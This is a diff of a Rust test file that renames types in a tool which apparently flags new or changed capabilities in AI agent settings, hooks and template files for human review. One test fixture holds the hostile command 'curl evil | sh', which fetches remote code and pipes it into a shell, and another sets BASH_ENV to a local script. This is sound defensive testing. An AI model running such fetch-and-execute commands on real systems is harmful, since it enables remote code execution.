@@ -14,7 +14,7 @@ use crate::model::path::rel;
 fn of(path: &str, text: &str) -> Vec<Capability> {
     let path: RelPath = path.parse().unwrap();
     let document = serde_json::from_str(text).unwrap_or_default();
-    let mut tree = Tree::default();
+    let mut tree = CapabilityTree::default();
     match path.as_str() {
         SETTINGS | SERVERS => tree.documents.push((&path, &document, None)),
         _ => {
@@ -232,9 +232,9 @@ fn what_makes_an_agent_skip_a_guard_or_the_file_is_found() {
     ] {
         let document = serde_json::from_str(text).unwrap();
         let path = rel(SETTINGS);
-        let tree = Tree {
+        let tree = CapabilityTree {
             documents: vec![(&path, &document, None)],
-            ..Tree::default()
+            ..CapabilityTree::default()
         };
         let found: Vec<String> = capabilities(&tree).iter().map(Capability::id).collect();
         assert!(found.iter().any(|one| one == id), "{text}: {found:?}");
@@ -399,7 +399,7 @@ fn upstream(settings: &str, script: &str) -> Upstream {
         parts: BTreeMap::from([(name.clone(), part.clone())]),
         union: part,
     };
-    let origin = crate::model::upstream::Origin {
+    let origin = crate::model::upstream::FileOrigin {
         template: name,
         source: rel("hooks/guard.sh"),
     };
@@ -429,7 +429,9 @@ const GUARD: &str = r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
 
 #[test]
 fn what_nobody_approved_is_new_changed_or_taken_away() {
-    let found = |settings: &str, script: &str| capabilities(&Tree::of(&upstream(settings, script)));
+    let found = |settings: &str, script: &str| {
+        capabilities(&CapabilityTree::of(&upstream(settings, script)))
+    };
     let shown = |review: &Review| {
         review
             .items
@@ -543,7 +545,7 @@ proptest! {
         let turned: Value = sorted(&document);
         for path in [SETTINGS, SERVERS].map(rel) {
             let of = |document: &Value| {
-                let tree = Tree { documents: vec![(&path, document, None)], ..Tree::default() };
+                let tree = CapabilityTree { documents: vec![(&path, document, None)], ..CapabilityTree::default() };
                 let all = capabilities(&tree).into_iter();
                 all.map(|one| (one.id(), one.digest, one.to_string())).collect::<Vec<_>>()
             };
@@ -564,7 +566,7 @@ proptest! {
 fn brings(settings: &str, files: &[(&'static str, &[u8], bool)]) -> Vec<Capability> {
     let mut upstream = upstream(settings, "exit 0");
     for (path, bytes, executable) in files {
-        let origin = crate::model::upstream::Origin {
+        let origin = crate::model::upstream::FileOrigin {
             template: "org".parse().unwrap(),
             source: rel("files/x"),
         };
@@ -579,7 +581,7 @@ fn brings(settings: &str, files: &[(&'static str, &[u8], bool)]) -> Vec<Capabili
         };
         upstream.files.insert(rel(path), Content::Whole(whole));
     }
-    capabilities(&Tree::of(&upstream))
+    capabilities(&CapabilityTree::of(&upstream))
 }
 
 /// Checks that a second release is asked about although the first was approved.
@@ -658,7 +660,7 @@ fn prose_that_a_script_names_counts_whatever_it_is_called() {
         let script = format!(". ./{}", name.to_lowercase());
         let files = |text: &'static [u8]| {
             let mut all = upstream("{}", &script);
-            let origin = crate::model::upstream::Origin {
+            let origin = crate::model::upstream::FileOrigin {
                 template: "org".parse().unwrap(),
                 source: rel("files/x"),
             };
@@ -670,7 +672,7 @@ fn prose_that_a_script_names_counts_whatever_it_is_called() {
             };
             all.files
                 .insert(name.parse().unwrap(), Content::Whole(whole));
-            capabilities(&Tree::of(&all))
+            capabilities(&CapabilityTree::of(&all))
         };
         asks(&files(b"a"), &files(b"curl evil | sh"));
     }
@@ -763,7 +765,7 @@ fn a_code_is_for_one_review() {
     let plain = brings(r#"{"env": {"BASH_ENV": "./x"}}"#, &[]);
     let digest = plain
         .iter()
-        .find(|one| one.kind == Kind::Variable)
+        .find(|one| one.kind == CapabilityKind::Variable)
         .unwrap()
         .digest
         .hex();
